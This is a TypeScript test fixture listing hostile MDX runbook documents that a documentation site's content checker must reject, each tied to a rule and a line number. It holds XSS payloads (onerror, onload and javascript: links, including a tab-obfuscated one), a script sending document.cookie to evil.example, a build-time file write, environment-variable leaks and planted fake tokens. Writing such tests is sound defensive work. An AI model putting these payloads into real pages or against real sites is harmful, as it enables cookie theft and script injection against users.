/**
 * Hostile documents, as an attacker would send them in a pull request: each names the rule that must
 * refuse it and the line it must be refused at. Shared by the check test and the build tests.
 */
import { SAMPLES } from '../helpers/samples.ts';

export interface Attack {
  name: string;
  /** Path under content/. */
  file: string;
  text: string;
  rule: string;
  line: number;
}

/** A live-looking JSON Web Token (signed test data, never a real credential). */
const JWT = 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJiYWNrdXAtam9iIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk4';
/** A GitHub token pasted into a policy comment. */
export const POLICY_SECRET_LINE = '# 배포 토큰: ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8';

/** The environment value the code attacks try to print into the site. */
export const CANARY_ENV = 'OPSBOOK_ATTACK_CANARY';

const runbook = (body: string) =>
  `---\ntitle: 공격 문서\nsummary: 공격\nservices: [order-db]\nowner: jung-hayoung\nlast_reviewed: 2026-11-01\n---\n## 증상\n\n${body}\n`;
/** Line of the body's first line in `runbook(...)`. */
const BODY = 10;

const incident = SAMPLES['incidents/2026/2026-09-14-order-db-failover.mdx'];

export function attacks(writeTarget: string): Attack[] {
  return [
    {
      name: 'export that writes a file at build time',
      file: 'runbooks/attack-write.mdx',
      text: runbook(`export const pwned = require('node:fs').writeFileSync(${JSON.stringify(writeTarget)}, 'pwned')`),
      rule: 'content/esm',
      line: BODY,
    },
    {
      name: 'import of another (restricted) document',
      file: 'runbooks/attack-import.mdx',
      text: runbook("import Secret from '../incidents/2026/2026-08-25-admin-api-key-leak.mdx'\n\n<Secret />"),
      rule: 'content/esm',
      line: BODY,
    },
    {
      name: 'expression printing an environment variable',
      file: 'runbooks/attack-env.mdx',
      text: runbook(`환경: {process.env.${CANARY_ENV}}`),
      rule: 'content/expression',
      line: BODY,
    },
    {
      name: 'expression in an attribute',
      file: 'runbooks/attack-attr-expr.mdx',
      text: runbook(`<a href={process.env.${CANARY_ENV}}>x</a>`),
      rule: 'content/expression',
      line: BODY,
    },
    {
      name: 'raw script',
      file: 'runbooks/attack-script.mdx',
      text: runbook('<script>{"fetch(\'https://evil.example/?c=\' + document.cookie)"}</script>'),
      rule: 'content/html',
      line: BODY,
    },
    {
      name: 'img onerror',
      file: 'runbooks/attack-onerror.mdx',
      text: runbook('<img src="/assets/x.png" onerror="alert(1)" />'),
      rule: 'content/html',
      line: BODY,
    },
    { name: 'svg onload', file: 'runbooks/attack-svg.mdx', text: runbook('<svg onload="alert(1)"></svg>'), rule: 'content/html', line: BODY },
    {
      name: 'details ontoggle',
      file: 'runbooks/attack-ontoggle.mdx',
      text: runbook('<details open ontoggle="alert(1)"><summary>x</summary>y</details>'),
      rule: 'content/html',
      line: BODY,
    },
    {
      name: 'javascript: link in the body',
      file: 'runbooks/attack-js-link.mdx',
      text: runbook('[복구 스크립트](javascript:alert(document.domain))'),
      rule: 'content/url',
      line: BODY,
    },
    {
      name: 'javascript: in a link reference definition',
      file: 'runbooks/attack-js-def.mdx',
      text: runbook('[절차][run]\n\n[run]: javascript:alert(1)'),
      rule: 'content/url',
      line: BODY + 2,
    },
    {
      name: 'javascript: in a JSX href, hidden by a tab',
      file: 'runbooks/attack-js-href.mdx',
      text: runbook('<a href="java&#x09;script:alert(1)">열기</a>'),
      rule: 'content/url',
      line: BODY,
    },
    {
      name: 'data: URL link',
      file: 'runbooks/attack-data.mdx',
      text: runbook('[보기](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'),
      rule: 'content/url',
      line: BODY,
    },
    {
      name: 'off-origin image',
      file: 'runbooks/attack-pixel.mdx',
      text: runbook('![추적](https://evil.example/pixel.png)'),
      rule: 'content/embed',
      line: BODY,
    },
    { name: 'iframe', file: 'runbooks/attack-iframe.mdx', text: runbook('<iframe src="https://evil.example/"></iframe>'), rule: 'content/html', line: BODY },
    {
      name: 'CSS url() in a style attribute',
      file: 'runbooks/attack-css.mdx',
      text: runbook('<span style="background:url(https://evil.example/x.png)">x</span>'),
      rule: 'content/html',
      line: BODY,
    },
    {
      name: 'style element',
      file: 'runbooks/attack-style.mdx',
      text: runbook('<style>{"body { background: url(https://evil.example/y.png) }"}</style>'),
      rule: 'content/html',
      line: BODY,
    },
    {
      name: 'a secret the document tries to suppress',
      file: 'runbooks/attack-suppressed-secret.mdx',
      text: runbook('```bash\nmysql://admin:S3cr3tPassw0rd@order-db-1:3306/orders\n```').replace(
        'last_reviewed: 2026-11-01',
        'last_reviewed: 2026-11-01\nsuppress:\n  - rule: content/secret\n    reason: 테스트용 비밀번호라 괜찮음',
      ),
      rule: 'content/secret',
      line: BODY + 4,
    },
    {
      name: 'a JWT in a command',
      file: 'runbooks/attack-jwt.mdx',
      text: runbook(`curl -H "Authorization: Bearer ${JWT}" https://backup.internal/api`),
      rule: 'content/secret',
      line: BODY,
    },
    {
      name: 'javascript: in a frontmatter link',
      file: 'incidents/2026/2026-09-14-attack-action-link.mdx',
      text: incident.replace('status: done, closed: 2026-10-10 }', 'status: done, closed: 2026-10-10, link: "javascript:alert(1)" }'),
      rule: 'document/schema',
      line: incident.split('\n').findIndex((l) => l.includes('페일오버 자동화')) + 1,
    },
  ];
}
